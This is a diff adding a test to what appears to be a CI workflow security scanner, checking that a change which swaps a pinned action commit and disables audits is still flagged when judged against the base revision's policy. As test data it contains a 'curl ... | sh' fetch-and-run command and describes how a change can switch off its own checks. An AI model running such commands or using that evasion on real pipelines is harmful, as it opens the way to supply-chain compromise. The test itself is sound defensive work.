@@ -103,4 +103,36 @@ describe("--policy-rev REV", () => {
     const { scan } = await based({}, (repo) => repo.write("a.txt", "a\n"));
     expect((await scan()).code).toBe(ExitCode.Clean);
   });
+
+  it("workflows check: the base's audits and reviewed pins judge a change that edits both", async () => {
+    const good = "11bd71901bbe5b1630ceea73d27597364c9af683";
+    const swapped = "0123456789abcdef0123456789abcdef01234567";
+    const lock = (sha: string) =>
+      `${JSON.stringify({ version: 1, actions: { "actions/checkout@v4.2.2": { sha } } }, null, 2)}\n`;
+    const workflow = (sha: string) =>
+      `on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n    steps:\n      - uses: actions/checkout@${sha} # v4.2.2\n        with:\n          persist-credentials: false\n      - run: curl -fsSL https://example.com/install.sh | sh\n`;
+    const repo = await gitRepo({
+      ".rampart/config.yaml": "version: 1\n",
+      ".rampart/actions.lock.json": lock(good),
+      ".github/workflows/ci.yml": workflow(good),
+    });
+    const base = await repo.git(["rev-parse", "HEAD"]);
+    // The change swaps the pinned commit, "approves" it in the lock and switches two audits off.
+    repo.write(".rampart/actions.lock.json", lock(swapped));
+    repo.write(
+      ".rampart/config.yaml",
+      "version: 1\nworkflows:\n  audits:\n    curl-pipe-shell: off\n    unverified-download: off\n    pin-comment-mismatch: off\n",
+    );
+    repo.write(".github/workflows/ci.yml", workflow(swapped));
+    await repo.git(["commit", "-qam", "ci: update", "--no-verify"]);
+    const own = await run(repo, ["workflows", "check", ".github/workflows/ci.yml"]);
+    expect(own.code, own.out).toBe(ExitCode.Clean); // the change judging itself
+    const trusted = await run(repo, ["workflows", "check", ".github/workflows/ci.yml", "--policy-rev", base]);
+    expect(trusted.code, trusted.out).toBe(ExitCode.Findings);
+    expect(trusted.out).toContain("pin-comment-mismatch");
+    expect(trusted.out).toContain("curl-pipe-shell");
+    const unknown = await run(repo, ["workflows", "check", "--policy-rev", "no-such-rev"]);
+    expect(unknown.code).toBe(ExitCode.Error);
+    expect(unknown.out).toContain("--policy-rev no-such-rev is not a commit");
+  });
 });
